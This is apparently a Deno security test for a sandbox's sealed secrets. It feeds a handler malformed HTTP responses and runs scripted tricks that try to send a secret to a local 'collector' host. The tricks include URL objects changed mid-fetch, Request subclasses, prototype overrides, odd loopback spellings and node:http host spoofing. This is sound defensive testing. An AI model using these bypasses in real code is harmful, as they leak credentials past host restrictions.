// Sealed values against hosts that answer in odd ways, as a hostile author looks for them: the value in every part of a
// response and in forms of forms, two responses for one request, and arguments of `fetch` that change while it reads them.

import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { gzipSync } from "node:zlib";
import { ToHost } from "../../src/sandbox/wire/protocol.ts";
import { startHost } from "../http/sealed_host.ts";
import { testWithAndWithoutRoot as test } from "./arena.ts";
import { OWN_WRITER } from "./raw_frames.ts";

const OK = "HTTP/1.1 200 OK\r\n";
const whole = (body: string | Uint8Array, headers = "") =>
  Buffer.concat([
    Buffer.from(`${OK}content-length: ${Buffer.byteLength(body)}\r\n${headers}\r\n`),
    Buffer.from(body as string),
  ]);
const chunks = (pieces: readonly string[], end = "0\r\n\r\n") =>
  `${OK}transfer-encoding: chunked\r\n\r\n${pieces.map((p) => `${p.length.toString(16)}\r\n${p}\r\n`).join("")}${end}`;

/** Responses by the path of the request; `v` is the value that was sent. */
const RESPONSES: Record<string, (v: string) => string | Uint8Array> = {
  early: (v) => `HTTP/1.1 103 Early Hints\r\nlink: <${v}>\r\n\r\n${whole("ok")}`,
  continue: (v) => `HTTP/1.1 100 ${v}\r\nx: ${v}\r\n\r\n${whole("ok")}`,
  status: (v) => `HTTP/1.1 200 ${v}\r\ncontent-length: 2\r\n\r\nok`,
  statusInHalves: (v) => `HTTP/1.1 200 ${v.slice(0, 9)}\r\n${v.slice(9)}: 1\r\ncontent-length: 2\r\n\r\nok`,
  folded: (v) => `${OK}x-v: ${v.slice(0, 9)}\r\n ${v.slice(9)}\r\ncontent-length: 2\r\n\r\nok`,
  lineFeeds: (v) => `HTTP/1.1 200 OK\nx-v: ${v}\ncontent-length: 2\n\nok`,
  carriageReturn: (v) => `${OK}x-v: ${v.slice(0, 9)}\r${v.slice(9)}\r\ncontent-length: 2\r\n\r\nok`,
  nul: (v) => `${OK}x-v: ${[...v].join("\0")}\r\ncontent-length: 2\r\n\r\nok`,
  name: (v) => `${OK}${v}: 1\r\nx-${v}-y: 2\r\ncontent-length: 2\r\n\r\nok`,
  capitals: (v) => `${OK}${v.toUpperCase()}: 1\r\nx-v: ${v.toUpperCase()}\r\ncontent-length: 2\r\n\r\nok`,
  cookie: (v) =>
    `${OK}set-cookie: a=${v}\r\nset-cookie: b=${encodeURIComponent(v)}; HttpOnly\r\ncontent-length: 2\r\n\r\nok`,
  location: (v) => `HTTP/1.1 302 Found\r\nlocation: /next?v=${v}\r\ncontent-length: 0\r\n\r\n`,
  refresh: (v) => whole("ok", `refresh: 0; url=/?${v}\r\nwww-authenticate: Basic realm="${v}"\r\n`),
  trailer: (v) => chunks(["ok"], `0\r\nx-v: ${v}\r\n\r\n`),
  extension: (v) => `${OK}transfer-encoding: chunked\r\n\r\n2;v=${v}\r\nok\r\n0;w="${v}"\r\n\r\n`,
  characters: (v) => chunks([...v]),
  afterLength: (v) => `${whole("ok")}${v}`,
  both: (v) => chunks([`<${v}>`]).replace("\r\n\r\n", "\r\ncontent-length: 2\r\n\r\n"),
  withoutLength: (v) => `HTTP/1.0 200 OK\r\n\r\n${v}`,
  gzipTwice: (v) => whole(gzipSync(gzipSync(v)), "content-encoding: gzip\r\ncontent-encoding: gzip\r\n"),
  gzipList: (v) => whole(gzipSync(gzipSync(v)), "content-encoding: gzip, gzip\r\n"),
  gzipCapitals: (v) => whole(gzipSync(v), "Content-Encoding: GZIP\r\n"),
  gzipMembers: (v) =>
    whole(Buffer.concat([gzipSync(v.slice(0, 9)), gzipSync(v.slice(9))]), "content-encoding: gzip\r\n"),
  gzipCut: (v) => whole(gzipSync(v + " ".repeat(99)).subarray(0, -9), "content-encoding: gzip\r\n"),
  gzipOdd: (v) => whole(gzipSync(v), "content-encoding: identity, gzip\r\n"),
  error: (v) => whole(v).toString().replace("200 OK", "500 Internal Server Error"),
  tooLong: (v) => `${OK}x: ${"y".repeat(300_000)}${v}\r\n\r\n`,
  noStatus: (v) => `HTTP/1.1 ${v} OK\r\n\r\n`,
  oldProtocol: (v) => `${v}\r\n\r\n`,
  upgrade: (v) => `HTTP/1.1 101 Switching Protocols\r\nupgrade: ${v}\r\nconnection: upgrade\r\n\r\n${v}`,
  base64Twice: (v) => whole(Buffer.from(Buffer.from(v).toString("base64")).toString("base64")),
  base64OfHex: (v) => whole(Buffer.from(Buffer.from(`x${v}`).toString("hex")).toString("base64url")),
  indented: (v) => chunks(JSON.stringify([...Buffer.from(v)], null, 10).match(/[^]{1,40}/g)!),
  indexed: (v) => chunks(JSON.stringify({ ...Buffer.from(v) }, null, 10).split(/(?<=\n)/)),
  utf16InBase64: (v) => whole(Buffer.from(v, "utf16le").toString("base64")),
  mimeLines: (v) => chunks(`x: ${Buffer.from(v).toString("base64")}`.match(/[^]{1,24}/g)!.map((line) => `${line}\n`)),
};

/** A host that writes such a response on each connection, and keeps it open. `received` are the requests' first lines. */
function oddHost() {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const received: string[] = [];
  const sockets: Deno.TcpConn[] = [];
  const serve = async (socket: Deno.TcpConn): Promise<void> => {
    const buffer = new Uint8Array(65_536);
    for (let count = await socket.read(buffer); count !== null; count = await socket.read(buffer)) {
      const text = Buffer.from(buffer.subarray(0, count)).toString("latin1");
      received.push(text);
      const [, path = ""] = /^\w+ \/(\w*)/.exec(text) ?? [];
      const [, value = ""] = /authorization: Bearer ([^\r]+)/i.exec(text) ?? [];
      const response = RESPONSES[path]?.(value) ?? whole("plain");
      await socket.write(Buffer.from(response as string));
      if (path === "withoutLength" || path === "oldProtocol") return socket.close();
    }
  };
  const served = (async () => {
    for await (const socket of listener) {
      sockets.push(socket);
      serve(socket).catch(() => {});
    }
  })();
  return {
    port: listener.addr.port,
    received,
    async [Symbol.asyncDispose]() {
      listener.close();
      for (const socket of sockets) {
        try {
          socket.close();
        } catch {
          // The other side has closed it.
        }
      }
      await served;
    },
  };
}

/** What a hostile author does in its own process. `own` sends with the value, `away` is a host of its own. */
const TRICKS: Record<string, string> = {
  changingUrl: `let n = 0; return await text(fetch({ toString: () => n++ % 2 ? T.away : T.own }, { headers: auth }))`,
  changingUrlObject:
    `const url = new URL(T.own); const sent = fetch(url, { headers: auth }); url.host = new URL(T.away).host; return await text(sent)`,
  changingHeaders:
    `const headers = new Headers(auth); const sent = fetch(T.own, { headers }); headers.set("x-late", key); return await text(sent)`,
  changingInit:
    `let n = 0; return await text(fetch(T.own, { get method() { return n++ ? "POST" : "PUT" }, get body() { return n++ % 2 ? key : new Blob([key]) }, headers: auth }))`,
  requestSubclass:
    `class Mine extends Request { get url() { return T.own } get headers() { return new Headers(auth) } } return await text(fetch(new Mine(T.away)))`,
  requestProperty:
    `const request = new Request(T.away, { headers: auth }); Object.defineProperty(request, "url", { value: T.own }); return await text(fetch(request))`,
  lies:
    `const { includes } = String.prototype; String.prototype.includes = () => true; Array.prototype.some = () => true; try { return await text(fetch(T.away, { headers: auth })) } finally { String.prototype.includes = includes }`,
  spelledHosts:
    `const { port } = new URL(T.away); return (await Promise.allSettled(["127.0.0.1%2f", "127\\u30020\\u30020\\u30021", "%31%32%37.0.0.1", "0177.0.0.1", "127.0.0.1\\t", "\\uff11\\uff12\\uff17.0.0.1"]
    .map((host) => text(fetch("http://" + host + ":" + port, { headers: auth }))))).map(({ value, reason }) => value ?? String(reason))`,
  upgradeOfScheme: `return await text(fetch(T.own.replace("http:", "https:"), { headers: auth }))`,
  nodeSetHost: `const { default: http } = await import("node:http"); const { hostname, port } = new URL(T.away);
    return await new Promise((done, fail) => http.get({ hostname, port, setHost: false, headers: { ...auth, host: new URL(T.own).host } }, (a) => { let all = ""; a.on("data", (d) => all += d).on("end", () => done(all)) }).on("error", fail))`,
  nodeConnection:
    `const { default: http } = await import("node:http"); const net = await import("node:net"); const { hostname, port } = new URL(T.away);
    return await new Promise((done, fail) => http.get(T.own, { headers: auth, createConnection: () => net.connect(port, hostname), agent: new http.Agent() }, (a) => { let all = ""; a.on("data", (d) => all += d).on("end", () => done(all)) }).on("error", fail))`,
  nodeLookup:
    `const { default: http } = await import("node:http"); return await new Promise((done, fail) => http.get(T.own, { headers: auth, lookup: (_, o, cb) => cb(null, [{ address: "127.0.0.2", family: 4 }]) },
    (a) => { let all = ""; a.on("data", (d) => all += d).on("end", () => done(all)) }).on("error", fail))`,
  lengthOfHead: `return [...(await fetch(T.own + "/plain", { method: "HEAD", headers: auth })).headers].join()`,
  locationRead:
    `const answer = await fetch(T.own + "/location", { headers: auth, redirect: "manual" }); return [answer.headers.get("location"), answer.url]`,
  locationFollowed:
    `const answer = await fetch(T.own + "/location", { headers: auth }); return [answer.url, answer.redirected, await answer.text()]`,
};

const FRAMES: Record<string, string> = {
  canaryWithText: `own.writer.send(${ToHost.Elsewhere}, T.id, JSON.stringify([key, "evil\\" <b>"])); return "sent"`,
};

const code = (attempts: Record<string, string>, targets: object, before = "") =>
  `${before}
const T = ${JSON.stringify(targets)};
const text = async (answer) => { const got = await answer; return [got.status, got.statusText, got.url, [...got.headers].join(), await got.text()] };
const attempts = { ${
    Object.entries(attempts).map(([name, body]) => `${name}: async (key, auth) => { ${body} }`).join(",\n")
  } };
export default async (c, ctx) => {
  const key = await ctx.getSecret("KEY");
  const results = { key };
  for (const [name, attempt] of Object.entries(attempts)) {
    let timer;
    const late = new Promise((done) => timer = setTimeout(() => done("late"), 3_000));
    results[name] = await Promise.race([late, attempt(key, { authorization: "Bearer " + key }).catch((error) => String(error))]);
    clearTimeout(timer);
  }
  return Response.json(results);
};`;

test("a host's odd responses and a handler's tricks give no sealed value away", async (withArena) => {
  await withArena("sealed", async (arena) => {
    const { server } = arena;
    await using odd = oddHost();
    await using collector = startHost(false);
    const value = arena.plant("sealed-wire-0123456789");
    const [own, away] = [odd, collector].map(({ port }) => `http://127.0.0.1:${port}`) as [string, string];
    const secret = { name: "KEY", value, scope: "global", sealed: true, hosts: [own] };
    assert.equal((await server.api("POST", "/api/secrets", secret)).status, 201);
    const net = [odd, collector].map(({ port }) => `127.0.0.1:${port}`).concat("127.0.0.2");
    const call = async (name: string, attempts: Record<string, string>, before = "") => {
      arena.count(Object.keys(attempts).length);
      await arena.deploy(name, code(attempts, { own, away, id: 1 }, before), { fields: { permissions: { net } } });
      return await arena.call(name);
    };
    const asked = Object.fromEntries(
      Object.keys(RESPONSES).map((path) => [path, `return await text(fetch(T.own + "/${path}", { headers: auth }))`]),
    );
    const { status, body } = await call("odd", asked);
    assert.equal(status, 200, JSON.stringify(body));
    // They are attempts at all: the host got the value each time.
    for (const path of Object.keys(RESPONSES)) {
      assert.ok(odd.received.some((text) => text.startsWith(`GET /${path} `) && text.includes(value)), path);
    }
    const masked = Object.entries(body).filter(([, got]) => JSON.stringify(got).includes("[secret KEY]")).map((
      [name],
    ) => name);
    for (
      const name of [
        "status",
        "lineFeeds",
        "cookie",
        "characters",
        "both",
        "withoutLength",
        "gzipCapitals",
        "gzipMembers",
        "error",
        "base64Twice",
        "base64OfHex",
        "indented",
        "indexed",
        "utf16InBase64",
        "mimeLines",
        "capitals",
      ]
    ) {
      assert.ok(masked.includes(name), `${name}: ${JSON.stringify(body[name])}`);
    }
    // What was sent after a response is not the next one.
    const after = await call("after", {
      first: `return await text(fetch(T.own + "/afterLength", { headers: auth }))`,
      second: `return await text(fetch(T.own + "/plain", { headers: auth }))`,
    });
    assert.equal(after.body.second[4], "plain", JSON.stringify(after.body));
    const tricks = await call("tricks", TRICKS);
    assert.equal(tricks.status, 200, JSON.stringify(tricks.body));
    // Ends its own process.
    await call("frames", FRAMES, OWN_WRITER);
    arena.search("the attacker's host", JSON.stringify(collector.received));
  });
});
